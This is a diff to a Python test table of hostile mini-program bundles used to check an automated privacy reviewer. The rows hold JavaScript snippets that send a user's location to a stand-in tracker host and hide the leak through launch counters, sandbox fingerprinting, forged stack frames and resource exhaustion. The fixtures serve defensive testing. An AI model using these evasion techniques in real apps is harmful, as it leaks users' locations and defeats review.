@@ -54,6 +54,9 @@ class Attack:
     allow_domains: tuple[str, ...] = ALLOW
     isolated: bool = False  # can take the reviewer down: reviewed only in a child process with limits
     rlimit_as: int | None = None  # the child's address-space limit, when the attack is the limit itself
+    # seconds to minutes of work (100,000 API calls, 64 MiB strings, a memory limit reached): reviewed by
+    # bench/hostile.py, not by the test suite (whose hostile table must stay within about a minute of CPU)
+    slow: bool = False
     # (the others run with the harness's default limits)
     # (file, old, new) edits that take the attack away and leave the leak: the flipped bundle must be caught
     # today, which shows that the leak is real and that only the attack hides it
@@ -193,13 +196,13 @@ function tick(page, n) {
     f();
   }
   if (n < 400) setTimeout(function () { tick(page, n + 1); }, 0);
-}"""), "reject", rule="data-to-network", isolated=True),
+}"""), "reject", rule="data-to-network", isolated=True, slow=True),
     Attack("nv-unmetered-builtin", "no-verdict",
            "after the leak, an interval whose ticks compare two equal 64 MiB strings 40 times: seconds of work a "
            "tick that the CPU count does not see (found here)",
            leak_page("leak(r); setInterval(function () { var c = 0; for (var i = 0; i < 40; i++) c += h === g ? 1 : 0; }, 10);",
                      prelude="var h = 'a'.repeat(1 << 26), g = ('a'.repeat(1 << 25) + 'a'.repeat(1 << 25)).slice(0);"),
-           "reject", rule="data-to-network", isolated=True),
+           "reject", rule="data-to-network", isolated=True, slow=True),
     Attack("nv-indexof-huge", "no-verdict",
            "one indexOf of a 64 KiB needle in a 128 MiB string (a builtin that runs for minutes)",
            leak_page("find(); leak(r);", prelude="""
@@ -207,7 +210,7 @@ function find() {
   var hay = 'a'.repeat(1 << 27);
   var needle = 'a'.repeat(1 << 16) + 'b';
   return hay.indexOf(needle);
-}"""), "reject", isolated=True),
+}"""), "reject", isolated=True, slow=True),
 
     # A silent record
     Attack("sr-event-cap", "silent-record",
@@ -219,7 +222,7 @@ function find() {
                "pages/two/two.js": BURN + "Page({ more() { burn(3, null); },"
                                    " last() { burn(3, function () { leak(getApp().loc); }); } });\n",
                "pages/two/two.ttml": BURN_TEMPLATE.format(first="") + '<button bindtap="last">Send</button>\n',
-               "pages/two/two.json": "{}\n"}), "reject"),
+               "pages/two/two.json": "{}\n"}), "reject", slow=True),
     Attack("sr-deep-request-data", "silent-record", "a request whose data is 1,500 levels deep with the location",
            leak_page(deep(LL, 1500) + " $G.request({ url: TRACKER + '/d', method: 'POST', data: o });"),
            "reject", rule="data-to-network"),
@@ -274,7 +277,10 @@ function find() {
            "reject", rule="data-to-network"),
     Attack("tf-second-tap", "timing", "the leak on the second tap only",
            leak_page("page.taps = (page.taps || 0) + 1; if (page.taps >= 2) leak(r);"), "reject", rule="data-to-network"),
-    Attack("tf-second-launch", "timing", "the leak from the second launch on (a counter in storage)",
+    Attack("tf-second-launch", "timing", "the leak when the page loads, from the second launch on (a counter in"
+           " storage)", leak_page("", methods="  onLoad() { if (getApp().launches >= 2) $G.getLocation({ success: leak"
+                                         " }); },"), "reject", rule="data-to-network"),
+    Attack("tf-second-launch-tap", "timing", "the leak on a tap, from the second launch on (a counter in storage)",
            leak_page("if (getApp().launches >= 2) leak(r);"),
            "reject", rule="data-to-network"),
     Attack("tf-brand", "timing", "no leak when the system info names a sandbox",
@@ -350,12 +356,12 @@ Object.defineProperty(leak, 'name', { value: 'leak (mpsandbox/framework.js:2:1)\
            "reject", rule="data-to-network"),
     Attack("te-caught-oom", "engines", "allocates to the memory limit, catches the error and goes on",
            leak_page("try { var big = []; for (;;) big.push('x'.repeat(1 << 20) + big.length); } catch (e) { big = null; }"),
-           "reject", rule="memory-limit", isolated=True),
+           "reject", rule="memory-limit", isolated=True, slow=True),
     Attack("te-ulimit-4g", "engines", "the plain leak, reviewed under a 4 GiB address-space limit (ulimit -v)",
            leak_page("leak(r);"), "reject", rule="data-to-network", isolated=True, rlimit_as=4 * GIB),
     Attack("te-big-message", "engines", "a 64 MiB string logged and stored: the host copies what crosses the bridge",
            leak_page("leak(r); var big = 'x'.repeat(1 << 26); console.log(big); $G.setStorage({ key: 'k', data: big });"),
-           "reject", rule="data-to-network", isolated=True),
+           "reject", rule="data-to-network", isolated=True, slow=True),
 
     # URLs
     Attack("url-backslash", "url", "the tracker's host before a backslash and an allowed host after '@'",
@@ -369,6 +375,8 @@ Object.defineProperty(leak, 'name', { value: 'leak (mpsandbox/framework.js:2:1)\
 _APP_JS = {
     "tf-second-launch": "App({ onLaunch() { var n = tt.getStorageSync('launches') || 0;"
                         " tt.setStorageSync('launches', n + 1); this.launches = n + 1; } });\n",
+    "tf-second-launch-tap": "App({ onLaunch() { var n = tt.getStorageSync('launches') || 0;"
+                            " tt.setStorageSync('launches', n + 1); this.launches = n + 1; } });\n",
     "tf-replayed-random": "var first = Math.random();\nApp({ firstRandom: first });\n",
 }
 PAGE = "pages/index/index.js"
@@ -391,20 +399,21 @@ _FLIPS: dict[str, tuple[tuple[str, str, str], ...]] = {
     "tf-interval-slow": ((PAGE, "}, 15000);", "}, 15);"),),
     "tf-second-tap": ((PAGE, "page.taps >= 2", "page.taps >= 1"),),
     "tf-second-launch": ((PAGE, "launches >= 2", "launches >= 1"),),
-    "tf-brand": ((PAGE, "if (!/sandbox/i", "if (/sandbox/i"),),
-    "tf-round-clock": ((PAGE, "if (!roundClock)", "if (roundClock)"),),
-    "tf-frozen-performance": ((PAGE, "if (!frozen)", "if (frozen)"),),
-    "tf-stack-file": ((PAGE, "if (!/mpsandbox", "if (/mpsandbox"),),
-    "tf-function-source": ((PAGE, "if (!/dispatchCall", "if (/dispatchCall"),),
-    "tf-replayed-random": ((PAGE, "firstRandom !== 0.3265", "firstRandom === 0.3265"),),
-    "tf-binary-api": ((PAGE, "=== 'AQID'", "!== 'AQID'"),),
-    "tf-canary-marker": ((PAGE, "page.marked === false", "page.marked === true"),),
+    "tf-second-launch-tap": ((PAGE, "launches >= 2", "launches >= 1"),),
+    "tf-brand": ((PAGE, "if (!/sandbox/i", "if (true || !/sandbox/i"),),
+    "tf-round-clock": ((PAGE, "if (!roundClock)", "if (true || !roundClock)"),),
+    "tf-frozen-performance": ((PAGE, "if (!frozen)", "if (true || !frozen)"),),
+    "tf-stack-file": ((PAGE, "if (!/mpsandbox", "if (true || !/mpsandbox"),),
+    "tf-function-source": ((PAGE, "if (!/dispatchCall", "if (true || !/dispatchCall"),),
+    "tf-replayed-random": ((PAGE, "if (getApp().firstRandom", "if (true || getApp().firstRandom"),),
+    "tf-binary-api": ((PAGE, "=== 'AQID') leak", "=== 'AQID' || true) leak"),),
+    "tf-canary-marker": ((PAGE, "if (page.marked === false)", "if (page.marked !== undefined)"),),
     "fe-newline-name": ((PAGE, "Object.defineProperty(send", "0 && Object.defineProperty(send"),
                         (PAGE, "Object.defineProperty(leak", "0 && Object.defineProperty(leak")),
     "fe-newline-name-framework": ((PAGE, "Object.defineProperty(send", "0 && Object.defineProperty(send"),
                                   (PAGE, "Object.defineProperty(leak", "0 && Object.defineProperty(leak")),
     "fe-module-escape": (("a.js", "('pages/index/index.js'", "('pages/none.js'"),),
-    "te-atomics": ((PAGE, "=== 'object'", "!== 'object'"),),
+    "te-atomics": ((PAGE, "if (typeof Atomics", "if (true || typeof Atomics"),),
     "te-rejection-cap": ((PAGE, "i < 4096", "i < 10"),),
     "url-backslash": ((PAGE, "\\\\@api.example.com", ""),),
 }
@@ -418,26 +427,29 @@ def _finish(a: Attack) -> Attack:
 ATTACKS = [_finish(a) for a in ATTACKS]
 BY_ID = {a.id: a for a in ATTACKS}
 
-# Attacks that do not end with the right verdict yet: "id" (both engines) or "id@engine". Remove an entry when
-# its fix lands; xfail(strict=True) fails the suite while a fixed attack is still listed.
-XFAIL: set[str] = {
-    # No verdict
-    "nv-deep-share-payload", "nv-unmetered-builtin@native",
-    # A silent record
-    "sr-event-cap", "sr-deep-request-data",
-    # Encoding
-    "enc-split", "enc-reverse", "enc-offset", "enc-scale", "enc-char-codes", "enc-xor", "enc-base36",
-    "enc-arraybuffer", "enc-typed-array", "enc-socket-frame",
+# Attacks that do not end with the right verdict yet: "id" (both engines) or "id@engine", each with why. Remove an
+# entry when its fix lands; xfail(strict=True) fails the suite while a fixed attack is still listed.
+ENGINE_BRANCH = "engine evidence, being fixed on another branch: "
+XFAIL: dict[str, str] = {
     # Timing and fingerprinting
-    "tf-timer-60s", "tf-interval-slow", "tf-second-tap", "tf-second-launch", "tf-brand", "tf-round-clock",
-    "tf-frozen-performance", "tf-stack-file", "tf-function-source", "tf-replayed-random", "tf-binary-api",
-    "tf-canary-marker",
+    "tf-interval-slow": "the dwell follows a pending interval's first firing only: its 10th tick (150 s) never comes"
+                        " while the page is open, and the page is unloaded",
+    "tf-second-launch-tap": "the second launch opens the entry page and waits for its timers, but taps nothing",
     # Forged evidence
-    "fe-newline-name", "fe-module-escape",
+    "fe-newline-name": ENGINE_BRANCH + "stack frames are parsed from text, and a function's name can forge a frame",
+    "fe-newline-name-framework": ENGINE_BRANCH + "stack frames are parsed from text: forged framework frames are"
+                                 " skipped and the finding points at the forged file",
+    "fe-module-escape": "every module is evaluated inside a textual define(...) wrapper that it can close (even"
+                        " new Function is injectable in QuickJS-NG): modules must be compiled on their own (item 5)",
     # Two engines
-    "te-atomics", "te-rejection-cap", "te-caught-oom@wasm", "te-ulimit-4g@wasm",
-    # URLs
-    "url-backslash",
+    "te-atomics": ENGINE_BRANCH + "Atomics parity (no Atomics global on either engine)",
+    "te-rejection-cap": "both engines' shim (csrc/shim.c MAX_REJECTIONS) keeps 4,096 pending rejections and drops"
+                        " the rest without a cap event: the 4,097th unhandled rejection never reaches the app",
+    "te-caught-oom@wasm": "wasm memory accounting: a caught out-of-memory leaves no memory-limit record (the walk's"
+                          " peak reads 0.5 MB)",
+    "nv-unmetered-builtin@native": "(slow) a builtin the CPU count does not see: each tick stays under the turn's"
+                                   " wall budget, so only the walk's wall limit (2 min, and the twin's) ends it",
+    "te-ulimit-4g@wasm": ENGINE_BRANCH + "4 GiB address space (wasmtime reserves more: the review exits 3)",
 }
 
 
@@ -463,7 +475,8 @@ def markdown() -> str:
              "and, where a file is named, every finding of the rule points into it. *Isolated* rows can take the",
              "reviewer down and are reviewed only in a child process with a wall timeout and memory limits.",
              "`python bench/hostile.py` prints the table of results on both engines; `tests/test_hostile.py`",
-             "asserts it (rows in `XFAIL` are expected to fail until their fix lands).", "",
+             "asserts it on both engines (rows in `XFAIL` are expected to fail until their fix lands, each with",
+             "why), except the *slow* rows (seconds to minutes of work each: run by the bench only).", "",
              "Most rows are one page: a *Locate* button whose handler calls `getLocation` and shows that the user",
              "was located (a benign use of the scope: `ctl-benign` is approved). The attack adds a leak behind it:",
              "`leak(r)` sends the coordinates to collect.tracker-example.net, outside the allow-list",
@@ -471,12 +484,12 @@ def markdown() -> str:
              "where only the flow decides the verdict (so an encoding that hides the location turns a reject into",
              "an approve). Rows that attack the reviewer itself leak first and then strike, so a reviewer that",
              "survives rejects. Where a row can be *taken away* (`flip` in the table: the fingerprint check",
-             "inverted, the delay removed, the encoding dropped), the flipped bundle must be caught today",
+             "made always true, the delay removed, the encoding dropped), the flipped bundle must be caught today",
              "(`test_flipped_attack_is_caught`): the leak is real and only the attack hides it.",
              "Anything big is made at run time inside the bundle (`'x'.repeat(2 ** 26)`), never stored.", ""]
     for cls, about in CLASSES.items():
-        lines += [f"## {cls}", "", about, "", "| id | what | expect | must find | isolated | flip |",
-                  "|---|---|---|---|---|---|"]
+        lines += [f"## {cls}", "", about, "", "| id | what | expect | must find | isolated | flip | run by |",
+                  "|---|---|---|---|---|---|---|"]
         for a in ATTACKS:
             if a.cls != cls:
                 continue
@@ -485,10 +498,12 @@ def markdown() -> str:
             iso = "yes" + (f" (address space {a.rlimit_as // GIB} GiB)" if a.rlimit_as else "") if a.isolated else ""
             plat = "" if a.platform == "tt" else f" ({a.platform})"
             flip = "yes" if a.flip else ""
-            lines.append(f"| `{a.id}` | {a.what}{plat} | {a.expect} | {need} | {iso} | {flip} |")
+            by = "bench" if a.slow else "tests"
+            lines.append(f"| `{a.id}` | {a.what}{plat} | {a.expect} | {need} | {iso} | {flip} | {by} |")
         lines.append("")
-    xf = ", ".join(f"`{x}`" for x in sorted(XFAIL)) or "none"
-    lines += ["## Expected to fail now", "", xf, ""]
+    lines += ["## Expected to fail now", "", "| row | why |", "|---|---|"]
+    lines += [f"| `{x}` | {why} |" for x, why in sorted(XFAIL.items())] or ["| — | none |"]
+    lines.append("")
     return "\n".join(lines)
 
 
